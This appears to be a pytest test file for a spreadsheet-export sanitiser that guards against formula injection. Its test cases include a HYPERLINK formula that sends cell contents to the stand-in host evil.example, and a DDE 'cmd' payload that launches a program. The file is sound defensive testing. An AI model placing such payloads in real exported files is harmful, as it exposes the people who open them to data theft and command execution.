"""Exports open safely in a spreadsheet."""

from __future__ import annotations

import pytest

from graph.export import neutralise_cell


@pytest.mark.parametrize("value,expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("+86 138 0013 8000", "+86 138 0013 8000"),
    ("+8613800138000", "+8613800138000"),
    ("Sunny Home Store", "Sunny Home Store"),
])
def test_spreadsheet_formulas_are_neutralised(value, expected):
    assert neutralise_cell(value) == expected
